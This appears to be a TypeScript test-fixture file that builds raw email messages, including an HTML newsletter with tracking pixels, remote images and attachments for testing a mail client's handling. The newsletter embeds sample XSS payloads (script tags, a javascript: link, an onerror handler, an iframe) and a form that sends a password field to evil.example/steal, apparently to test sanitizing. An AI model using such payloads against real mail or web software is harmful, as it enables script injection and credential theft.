// Test messages as they arrive from elsewhere: plain ones, a conversation, and an HTML
// newsletter with remote images, a tracking pixel, a click-tracking link, an inline image
// and attachments.

/** A 1x1 red PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
);

export function plainMessage(opts: {
  subject: string;
  from?: string;
  to?: string;
  date?: string;
  body?: string;
  messageId?: string;
  inReplyTo?: string;
  references?: string;
  extra?: string[];
}): string {
  return [
    `From: ${opts.from ?? '"Sender Name" <sender@remote.example>'}`,
    `To: ${opts.to ?? 'alice@example.test'}`,
    `Subject: ${opts.subject}`,
    `Date: ${opts.date ?? 'Mon, 6 Jan 2025 10:00:00 +0000'}`,
    `Message-ID: ${opts.messageId ?? `<${Math.random().toString(36).slice(2)}@remote.example>`}`,
    ...(opts.inReplyTo ? [`In-Reply-To: ${opts.inReplyTo}`] : []),
    ...(opts.references ? [`References: ${opts.references}`] : []),
    ...(opts.extra ?? []),
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    opts.body ?? `Body of ${opts.subject}.`,
    '',
  ].join('\r\n');
}

/** HTML mail of the kind newsletters send; `remote` is the base URL of the "remote" server. */
export function newsletter(remote: string, opts: { from?: string; subject?: string } = {}): string {
  const html = [
    '<html><head><style>p { color: #333; } .hero { background-image: url(' +
      remote +
      '/hero.jpg); }</style></head>',
    '<body><p>Hello <b>reader</b>, our <i>spring</i> offers.</p>',
    `<img src="${remote}/banner.png" width="600" height="200" alt="Our banner">`,
    `<img src="${remote}/open.gif?u=42" width="1" height="1" alt="">`,
    `<a href="https://click.tracker.example/r?url=https%3A%2F%2Fshop.example%2Fspring-sale&amp;id=42">See the sale</a>`,
    '<img src="cid:logo@newsletter.example" alt="logo">',
    `<div class="hero" style="background: url(${remote}/bg.png)">hero</div>`,
    '<script>document.title = "pwned"</script>',
    '<a href="javascript:alert(1)">click me</a>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<img src="x" onerror="alert(1)">',
    '</body></html>',
  ].join('\r\n');
  return [
    `From: ${opts.from ?? '"Shop" <news@shop.example>'}`,
    'To: alice@example.test',
    `Subject: ${opts.subject ?? 'Spring offers'}`,
    'Date: Tue, 7 Jan 2025 09:00:00 +0000',
    'Message-ID: <spring@shop.example>',
    'List-Unsubscribe: <https://shop.example/unsubscribe?u=42>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="mixed"',
    '',
    '--mixed',
    'Content-Type: multipart/related; boundary="related"',
    '',
    '--related',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello reader, our spring offers (plain text).',
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    html.replace(/=/g, '=3D'),
    '--alt--',
    '--related',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <logo@newsletter.example>',
    'Content-Disposition: inline; filename="logo.png"',
    '',
    PNG.toString('base64'),
    '--related--',
    '--mixed',
    'Content-Type: application/pdf; name="report.pdf"',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename="report.pdf"',
    '',
    Buffer.from('%PDF-1.4 a small report').toString('base64'),
    '--mixed',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    "Content-Disposition: attachment; filename*=UTF-8''Gr%C3%BC%C3%9Fe.txt",
    '',
    Buffer.from('Grüße aus Köln').toString('base64'),
    '--mixed',
    'Content-Type: text/html; charset=utf-8',
    'Content-Disposition: attachment; filename="page.html"',
    '',
    '<script>alert(1)</script>',
    '--mixed--',
    '',
  ].join('\r\n');
}
